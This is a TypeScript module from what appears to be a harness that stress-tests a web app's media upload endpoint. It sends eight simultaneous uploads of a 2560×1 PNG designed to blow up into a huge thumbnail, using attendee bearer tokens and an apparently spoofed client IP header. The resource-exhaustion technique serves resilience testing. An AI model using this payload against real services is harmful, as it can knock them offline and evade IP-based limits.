import sharp from 'sharp'

import { repeat } from './repeat.ts'
import { type Attack, from } from './types.ts'

const atOnce = 8

/** A PNG of 144 bytes, which a thumbnail would scale to 147 million pixels. */
const thinPicture = () =>
  sharp({ create: { width: 2560, height: 1, channels: 3, background: '#2a6f97' } })
    .png()
    .toBuffer()

export const thinPictures: Attack = {
  name: 'thin-pictures',
  title: `${atOnce} uploads at once of a picture of 2560 × 1 pixels`,
  run: async (context) => {
    const picture = await thinPicture()
    await repeat(context, atOnce, (index) => {
      const body = new FormData()
      body.set('_payload', JSON.stringify({ alt: 'A line' }))
      body.set('file', new Blob([picture], { type: 'image/png' }), 'line.png')
      const { token } = context.attendees[index % context.attendees.length]!
      const headers = { Authorization: `Bearer ${token}`, ...from('203.0.113.9') }
      return { path: '/api/media', method: 'POST', body, headers }
    })
  },
}
